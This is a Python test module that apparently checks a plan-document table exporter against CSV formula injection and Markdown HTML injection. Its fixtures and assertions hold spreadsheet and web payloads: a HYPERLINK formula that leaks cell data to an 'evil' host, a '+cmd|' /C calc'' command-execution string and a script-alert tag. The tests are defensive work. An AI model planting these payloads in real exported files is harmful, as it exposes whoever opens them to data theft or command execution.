"""Cells and pages that cannot attack their reader (issue 17, item 3).

A plan's text reaches the tables as written, and a spreadsheet runs a CSV cell that starts
with = + - @ tab or CR as a formula (``=HYPERLINK("http://evil/"&A1,"点击")``), while a
Markdown viewer renders HTML (``<script>``). So every CSV/TSV cell a table export or
``query``/``documents``/``ask --format csv|tsv`` writes starts with a ' when it would start
a formula (``kg.output.neutralise``), ``--raw`` writes the cells as stored, an XLSX cell
holds the text typed as a string, and a Markdown cell holds < > & as entities.

The payloads reach a store through the normal build (a plan whose title, measure titles,
units and glossary carry them); a leading tab and a carriage return, which the build strips
from any text it reads, are then written into the store's labels.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import textwrap

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from kg import service
from kg.cli import _print_rows, main
from kg.export import tables
from kg.output import FORMULA_START, neutralise
from kg.store import Store

TITLE = "=1+1临江市单元格安全测试方案"
PLAN = f"""\
    {TITLE}
    一、重点任务
    1.=HYPERLINK("http://evil/"&A1,"点击")建设实训基地。到2025年，建成实训基地10个以上。（牵头单位：=1+1局；责任单位：@SUM(1)局、+cmd局）
    2.-2+3完善督导机制。推进@SUM(1)计划¹。（牵头单位：-2+3局；责任单位：<script>alert(1)</script>局）
    3.+cmd|' /C calc'!A0营造良好氛围。
    责任单位：制表局
    4.开展检查。（牵头单位：审计局）
    5.@SUM(1)局推进工作。
    注：
    1.@SUM(1)计划：=1+1局组织实施的计划。
    """
# Written into the built store: a unit's name with a leading tab, a measure title with a leading CR.
PLANTED = """\
PREFIX skos: <http://www.w3.org/2004/02/skos/core#>
PREFIX eli: <http://data.europa.eu/eli/ontology#>
DELETE { GRAPH ?g { ?unit skos:prefLabel "制表局"@zh . ?measure eli:title "开展检查"@zh } }
INSERT { GRAPH ?g { ?unit skos:prefLabel "\\t制表局"@zh . ?measure eli:title "\\r开展检查"@zh } }
WHERE { GRAPH ?g { ?unit skos:prefLabel "制表局"@zh . ?measure eli:title "开展检查"@zh } }
"""

# The 任务分工表 of that store as the csv module reads its CSV back: each payload behind one '.
RESPONSIBILITIES = [
    ["文件", "序号", "重点任务", "所属部分", "牵头单位", "责任单位"],
    [
        "'" + TITLE,
        "1",
        '\'=HYPERLINK("http://evil/"&A1,"点击")建设实训基地',
        "重点任务",
        "'=1+1局",
        "'@SUM(1)局；+cmd局",
    ],
    ["'" + TITLE, "2", "'-2+3完善督导机制", "重点任务", "'-2+3局", "<script>alert(1)</script>局"],
    ["'" + TITLE, "3", "'+cmd|' /C calc'!A0营造良好氛围", "重点任务", "", "'\t制表局"],
    ["'" + TITLE, "4", "'\r开展检查", "重点任务", "审计局", ""],
    ["'" + TITLE, "5", "'@SUM(1)局推进工作", "重点任务", "", ""],
]
# Every payload the tests and the fuzz start from.
PAYLOADS = [
    '=HYPERLINK("http://evil/"&A1,"点击")',
    "=1+1局",
    "@SUM(1)局",
    "+cmd|' /C calc'!A0",
    "-2+3局",
    "\t制表局",
    "\r开展检查",
    "<script>alert(1)</script>局",
]


@pytest.fixture(scope="module")
def store_path(tmp_path_factory):
    """A store built from PLAN, with the tab and CR payloads planted; closed, for the CLI."""
    folder = tmp_path_factory.mktemp("cell-safety")
    plan = folder / "plan.txt"
    plan.write_text(textwrap.dedent(PLAN), encoding="utf-8")
    with Store(folder / "store") as store:
        service.build([plan], store)
        store.update(PLANTED)
        store.flush()
    return folder / "store"


@pytest.fixture(scope="module")
def api_tables(store_path):
    """Every table as the Python API gives it: the cells as stored."""
    with Store(store_path) as store:
        return {name: make(store) for name, make in tables.TABLES.items()}


def invoke(store_path, *args: str):
    result = CliRunner().invoke(main, [*args, "--store", str(store_path)])
    assert result.exit_code == 0, (args, result.exit_code, result.stderr[-2000:])
    return result


def text(value) -> str:
    """A table cell's text as stored (a list joined with ；)."""
    value = tables.cell_value(value)
    return "" if value is None else str(value)


def read_csv(data: str, dialect=csv.excel) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline=""), dialect=dialect))


def assert_safe(rows: list[list[str]]) -> None:
    """No cell starts a formula: a payload's cell starts with the ' that neutralises it."""
    unsafe = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert unsafe == []


# --- table exports ---------------------------------------------------------------------


def test_the_payloads_reach_the_responsibility_table_each_behind_one_quote(store_path, tmp_path):
    target = tmp_path / "tasks.csv"
    invoke(store_path, "export", "responsibilities", "-o", str(target))
    assert read_csv(target.read_bytes().decode("utf-8-sig")) == RESPONSIBILITIES
    assert read_csv(invoke(store_path, "export", "responsibilities").stdout) == RESPONSIBILITIES


@pytest.mark.parametrize("headers", ["zh", "en"])
@pytest.mark.parametrize("name", list(tables.TABLES))
def test_every_csv_table_export_neutralises_every_cell(store_path, api_tables, tmp_path, name, headers):
    target = tmp_path / f"{name}.csv"
    invoke(store_path, "export", name, "-o", str(target), "--headers", headers)
    rows = read_csv(target.read_bytes().decode("utf-8-sig"))
    assert_safe(rows)
    columns, api_rows = api_tables[name]
    # The csv module reads back each cell's exact text, with the ' where one was added.
    assert rows[0] == tables.header_labels(name, columns, headers)
    assert rows[1:] == [[neutralise(text(row[column])) for column in columns] for row in api_rows]
    # Every table names the plan, whose title starts with =; one ' off gives it back.
    assert {row[0] for row in rows[1:]} == {"'" + TITLE}


@pytest.mark.parametrize("name", list(tables.TABLES))
def test_raw_writes_a_table_export_as_stored(store_path, api_tables, tmp_path, name):
    target = tmp_path / f"{name}.csv"
    invoke(store_path, "export", name, "-o", str(target), "--raw")
    columns, api_rows = api_tables[name]
    assert read_csv(target.read_bytes().decode("utf-8-sig"))[1:] == [
        [text(row[column]) for column in columns] for row in api_rows
    ]
    assert {row[0] for row in read_csv(invoke(store_path, "export", name, "--raw").stdout)[1:]} == {TITLE}


def test_raw_gives_the_responsibility_payloads_as_written(store_path):
    rows = read_csv(invoke(store_path, "export", "responsibilities", "--raw").stdout)
    assert [row[2] for row in rows[1:]] == [
        '=HYPERLINK("http://evil/"&A1,"点击")建设实训基地',
        "-2+3完善督导机制",
        "+cmd|' /C calc'!A0营造良好氛围",
        "\r开展检查",
        "@SUM(1)局推进工作",
    ]
    assert [row[4:] for row in rows[1:]] == [
        ["=1+1局", "@SUM(1)局；+cmd局"],
        ["-2+3局", "<script>alert(1)</script>局"],
        ["", "\t制表局"],
        ["审计局", ""],
        ["", ""],
    ]


@pytest.mark.parametrize("all_tables", [False, True])
def test_a_workbook_holds_the_payloads_as_text(store_path, tmp_path, all_tables):
    target = tmp_path / "tasks.xlsx"
    if all_tables:
        invoke(store_path, "export", "--all", "-o", str(target))
    else:
        invoke(store_path, "export", "responsibilities", "-o", str(target))
    sheet = openpyxl.load_workbook(target)["任务分工表"]
    cells = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value}
    for payload in (TITLE, "=1+1局", "-2+3局", "@SUM(1)局；+cmd局", "\t制表局", "\r开展检查"):
        assert cells[payload] == "s", payload
    assert cells['=HYPERLINK("http://evil/"&A1,"点击")建设实训基地'] == "s"
    assert not any(str(value).startswith("'") for value in cells)


def test_markdown_shows_markup_as_text(store_path, tmp_path):
    target = tmp_path / "tasks.md"
    invoke(store_path, "export", "responsibilities", "-o", str(target))
    lines = target.read_bytes().decode("utf-8").splitlines()
    assert lines[2:] == [
        f'| {TITLE} | 1 | =HYPERLINK("http://evil/"&amp;A1,"点击")建设实训基地 | 重点任务 | =1+1局 | @SUM(1)局；+cmd局 |',
        f"| {TITLE} | 2 | -2+3完善督导机制 | 重点任务 | -2+3局 | &lt;script&gt;alert(1)&lt;/script&gt;局 |",
        f"| {TITLE} | 3 | +cmd\\|' /C calc'!A0营造良好氛围 | 重点任务 |  |  制表局 |",
        f"| {TITLE} | 4 |  开展检查 | 重点任务 | 审计局 |  |",
        f"| {TITLE} | 5 | @SUM(1)局推进工作 | 重点任务 |  |  |",
    ]
    assert "<" not in target.read_bytes().decode("utf-8")


def test_a_markdown_cell_escapes_html_pipes_backslashes_and_line_breaks():
    data = tables.render(["a"], [{"a": "x<b>&amp;</b>|y\\z\nw"}], "md")
    assert data.decode("utf-8") == "| a |\n|---|\n| x&lt;b&gt;&amp;amp;&lt;/b&gt;\\|y\\\\z w |\n"


# --- query, documents and ask ------------------------------------------------------------


def query_rows(store_path, name: str, output_format: str, *options: str) -> list[list[str]]:
    """The rows ``query NAME --format csv|tsv`` prints, as the csv module reads them."""
    dialect = csv.excel_tab if output_format == "tsv" else csv.excel
    return read_csv(invoke(store_path, "query", name, "--format", output_format, *options).stdout, dialect)


def stored_rows(store_path, name: str) -> list[list[str]]:
    """The header and rows of ``query NAME --format json``, each cell's text as stored."""
    as_json = json.loads(invoke(store_path, "query", name, "--format", "json").stdout)
    columns = list(as_json[0])
    return [columns, *[["" if row[column] is None else str(row[column]) for column in columns] for row in as_json]]


@pytest.mark.parametrize("output_format", ["csv", "tsv"])
def test_query_rows_are_neutralised_unless_raw(store_path, output_format):
    columns, *stored = stored_rows(store_path, "units")
    rows = query_rows(store_path, "units", output_format)
    assert_safe(rows)
    assert rows == [columns, *[[neutralise(cell) for cell in row] for row in stored]]
    assert {row[columns.index("preferredName")] for row in rows[1:]} == {
        "'=1+1局",
        "'@SUM(1)局",
        "'+cmd局",
        "'-2+3局",
        "<script>alert(1)</script>局",
        "'\t制表局",
        "审计局",
    }
    assert query_rows(store_path, "units", output_format, "--raw") == [columns, *stored]


@pytest.mark.parametrize("output_format", ["csv", "tsv"])
def test_no_query_cell_starts_a_formula(store_path, output_format):
    assert_safe(query_rows(store_path, "responsibilities", output_format))


# The csv module of Python 3.10 and of 3.11 before 3.11.9 leaves a cell holding a bare CR
# unquoted under lineterminator="\n": the row would break inside the cell (a spreadsheet then
# reads the rest as a row of its own, which may start with =). _print_rows writes each row
# with kg.output.csv_line, which quotes it.
@pytest.mark.parametrize("output_format", ["csv", "tsv"])
def test_a_query_cell_holding_a_carriage_return_stays_in_its_row(store_path, output_format):
    columns, *stored = stored_rows(store_path, "responsibilities")
    rows = query_rows(store_path, "responsibilities", output_format)
    assert rows == [columns, *[[neutralise(cell) for cell in row] for row in stored]]


@pytest.mark.parametrize("output_format", ["csv", "tsv"])
def test_documents_rows_are_neutralised_unless_raw(store_path, output_format):
    dialect = csv.excel_tab if output_format == "tsv" else csv.excel
    rows = read_csv(invoke(store_path, "documents", "--format", output_format).stdout, dialect)
    assert_safe(rows)
    assert rows[0][:2] == ["id", "title"] and rows[1][1] == "'" + TITLE
    raw = read_csv(invoke(store_path, "documents", "--format", output_format, "--raw").stdout, dialect)
    assert raw[1][1] == TITLE


def test_ask_rows_are_neutralised(store_path):
    rows = read_csv(invoke(store_path, "ask", "=1+1局牵头哪些任务？", "--format", "csv").stdout)
    assert_safe(rows)
    answer = dict(zip(rows[0], rows[1]))
    assert (answer["department"], answer["document"]) == ("'=1+1局", "'" + TITLE)


# --- properties --------------------------------------------------------------------------

# Any text, payloads, and texts that start with a formula character or with ' before one.
texts = st.one_of(
    st.text(),
    st.sampled_from(PAYLOADS),
    st.builds(lambda start, rest: start + rest, st.sampled_from([*FORMULA_START, "'", "'="]), st.text()),
)


@given(texts)
def test_neutralise_never_leaves_a_formula_and_one_quote_off_gives_the_text_back(value):
    cell = neutralise(value)
    if len(value) > 1 and value.startswith(FORMULA_START):
        assert cell == "'" + value and cell[1:] == value
    else:  # a formula character alone (a target's comparator =) is no formula
        assert cell == value
    assert not cell.startswith(FORMULA_START) or cell in FORMULA_START


@given(st.lists(texts, min_size=1, max_size=4))
def test_a_neutralised_table_row_reads_back_exactly(values):
    columns = [f"c{index}" for index in range(len(values))]
    data = tables.render(columns, [dict(zip(columns, values))], "csv").decode("utf-8")
    assert read_csv(data) == [columns, [neutralise(value) for value in values]]
    for dialect in (csv.excel, csv.excel_tab):
        line = tables.csv_line([neutralise(value) for value in values], dialect)
        assert read_csv(line, dialect) == [[neutralise(value) for value in values]]


# Without a bare CR inside a cell: test_a_query_cell_holding_a_carriage_return_stays_in_its_row.
@given(st.lists(texts.filter(lambda value: "\r" not in value), min_size=1, max_size=4))
def test_a_neutralised_query_row_reads_back_exactly(values):
    columns = [f"c{index}" for index in range(len(values))]
    for output_format, dialect in (("csv", csv.excel), ("tsv", csv.excel_tab)):
        printed = io.StringIO()
        with contextlib.redirect_stdout(printed):
            _print_rows(columns, [dict(zip(columns, values))], output_format)
        assert read_csv(printed.getvalue(), dialect) == [columns, [neutralise(value) for value in values]]


@given(texts)
def test_a_markdown_cell_holds_no_markup_and_stays_one_cell(value):
    line = tables.render(["a"], [{"a": value}], "md").decode("utf-8").split("\n")[2]
    assert "<" not in line and ">" not in line
    body = line[2:-2].replace("\\\\", "")
    assert "|" not in body.replace("\\|", "") and "\n" not in body
